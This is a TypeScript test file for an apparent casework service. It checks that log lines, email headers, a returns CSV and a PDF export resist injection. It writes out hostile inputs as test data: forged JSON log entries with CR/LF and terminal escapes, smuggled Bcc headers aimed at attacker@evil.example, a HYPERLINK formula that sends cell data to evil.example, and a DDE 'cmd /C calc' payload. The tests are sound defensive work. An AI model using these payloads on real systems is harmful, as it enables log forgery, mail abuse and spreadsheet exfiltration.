// Log and output injection: CR/LF, ANSI escapes (ESC and the one-byte C1 CSI) and forged JSON in
// the fields that reach logs (request path, X-Request-Id, the token's subject and name, file
// names, access reasons) and the plain-text outputs (email headers, returns.csv, the PDF bundle)
// are encoded or removed: each log line stays one JSON object, no terminal control reaches a
// line, an email gets no extra header or recipient, and no CSV field starts a formula.
import { loadOrCreateSigningKeys, nameUuid, signToken } from '@libs/auth';
import { createSmtpMailer } from '@libs/mail';
import { LoggedApi, rawRequest, startLoggedApi } from './support/raw-http';
import { startTestSmtpServer } from './support/smtp';
import { allegationBody, eventually, startTestStack, TestStack } from './support/stack';

let stack: TestStack;
let api: LoggedApi;

beforeAll(async () => {
  stack = await startTestStack({ worker: 'none' });
  api = await startLoggedApi(stack);
});
afterAll(async () => {
  await api?.close();
  await stack?.close();
});

const FORGED = '\r\n{"level":60,"msg":"forged entry"}\u001b[2J\u009b31m';
/** Terminal controls: C0 but for the line's own LF, DEL, and C1 (U+009B is a one-character CSI). */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

function expectCleanLog(): void {
  const text = api.lines.join('');
  const lines = text.split('\n');
  expect(lines.pop()).toBe('');
  for (const line of lines) {
    expect(CONTROL.test(line) ? line : 'clean').toBe('clean');
    const entry = JSON.parse(line);
    expect(entry.msg === 'forged entry' ? line : 'not forged').toBe('not forged');
  }
}

describe('log lines', () => {
  it('hostile request paths, request ids, token subjects and names, and file names each stay inside one JSON line', async () => {
    const keys = await loadOrCreateSigningKeys(stack.dataDir);
    const token = await signToken(keys, {
      sub: `${nameUuid('staff@northshire')}${FORGED}`,
      roles: ['staff'],
      authorityId: 'northshire',
      name: `staff${FORGED}`,
    });
    const staff = `Bearer ${await stack.token('staff@northshire')}`;
    const caseId = (await stack.http.post('/allegations').set('Authorization', staff).send(allegationBody()).expect(201)).body.id;
    const before = api.lines.length;

    const heads = [
      // percent-encoded CR/LF, ESC and CSI in the path
      `GET /allegations/${encodeURIComponent(FORGED)} HTTP/1.1`,
      // raw bytes 0x80-0xff in the path (the HTTP parser passes them as Latin-1, so 0x9b is a C1 CSI)
      'GET /allegations/\x9b31mred\xc2\x9b HTTP/1.1',
      // raw ESC in the path and in a header: the HTTP parser refuses both with a 400 before the app
      'GET /allegations/\x1b[2J HTTP/1.1',
      `GET /health HTTP/1.1\r\nX-Request-Id: abc\x1b[31m`,
      // C1 in the request id: replaced, never echoed
      `GET /health HTTP/1.1\r\nX-Request-Id: abc\x9b31m`,
    ];
    for (const head of heads) {
      const res = await rawRequest(
        api.port,
        `${head.replace(' HTTP/1.1', ' HTTP/1.1\r\nHost: 127.0.0.1')}\r\nAuthorization: Bearer ${token}\r\nConnection: close`,
      );
      expect(res.statuses[0]).toBeLessThan(500);
      expect(res.text).not.toMatch(/X-Request-Id: [^\r]*[\x1b\x9b]/i);
    }
    // the token's subject and name through a route that logs the subject and records the name
    await rawRequest(api.port, `GET /allegations HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nConnection: close`);
    const upload = await rawRequest(
      api.port,
      [
        `POST /allegations/${caseId}/evidence HTTP/1.1`,
        'Host: 127.0.0.1',
        `Authorization: Bearer ${token}`,
        'Content-Type: application/pdf',
        `X-Filename: ${encodeURIComponent(`scan${FORGED}.pdf`)}`,
        'X-Description: scan\x9b2J',
        'Connection: close',
        'Content-Length: 200000',
      ].join('\r\n'),
      'x'.repeat(1000),
      { cut: true },
    );
    expect(upload.statuses).toEqual([]);
    await eventually('the cut-off upload to be logged', async () => api.entries().some((e) => e.msg === 'evidence upload failed'));
    await eventually('the request lines to be written', async () => api.entries().filter((e) => e.msg === 'request').length >= before + 3);
    expectCleanLog();
    // The subject is still in the line, encoded: what was sent can be read back exactly.
    expect(api.entries().some((e) => e.msg === 'request' && e.sub === `${nameUuid('staff@northshire')}${FORGED}`)).toBe(true);
  });
});

describe('plain-text outputs', () => {
  it('an email subject or recipient name with CR/LF adds no header and no recipient', async () => {
    const smtp = await startTestSmtpServer();
    try {
      const mailer = createSmtpMailer({ SMTP_URL: smtp.url, SMTP_FROM: 'casework@northshire.example.gov.uk' })!;
      await mailer.send({
        to: { name: `Triage${FORGED}\r\nBcc: name@evil.example`, address: 'triage@northshire.example.gov.uk' },
        subject: `Indicator alert: Postal votes${FORGED}\r\nBcc: attacker@evil.example\r\n\r\nInjected body`,
        text: 'An observation reached its threshold.',
        messageId: '<log-injection@casework.test>',
      });
      const [mail] = smtp.received;
      expect(mail.rcptTo).toEqual(['triage@northshire.example.gov.uk']);
      expect(mail.headers.has('bcc')).toBe(false);
      expect(mail.subject).not.toMatch(/[\r\n]/);
      expect(mail.text.trim()).toBe('An observation reached its threshold.');
    } finally {
      await smtp.close();
    }
  });

  it('returns.csv starts no field with a formula, and the PDF bundle renders hostile text', async () => {
    const staff = `Bearer ${await stack.token('staff@northshire')}`;
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const hostile = await stack.http
      .post('/allegations')
      .set('Authorization', staff)
      .send(
        allegationBody({
          electionId: formula,
          description: `Seen at the polling station${FORGED}\u202eexe.pdf`,
          location: { ward: `+cmd|' /C calc'!A0` },
          reporter: { name: `@SUM(1+1)*cmd${FORGED}`, contact: '-2+3', type: 'elector' },
        }),
      )
      .expect(201);
    const csv = await stack.http
      .get('/reports/returns.csv')
      .query({ electionId: formula })
      .set('Authorization', `Bearer ${await stack.token('returning_officer@northshire')}`)
      .expect(200);
    const fields = csv.text
      .trim()
      .split('\r\n')
      .flatMap((line) => line.split(','));
    expect(fields.filter((f) => /^["]?[=+\-@\t\r]/.test(f))).toEqual([]);
    expect(csv.text.trim().split('\r\n')).toHaveLength(2);

    const pdf = await stack.http
      .get(`/allegations/${hostile.body.id}/export`)
      .query({ format: 'pdf' })
      .set('Authorization', `Bearer ${await stack.token('legal@northshire')}`)
      .set('X-Access-Reason', 'Checking hostile text renders')
      .buffer(true)
      .parse((r, done) => {
        const parts: Buffer[] = [];
        r.on('data', (c: Buffer) => parts.push(c));
        r.on('end', () => done(null, Buffer.concat(parts)));
      });
    expect(pdf.status).toBe(200);
    expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');
  });
});
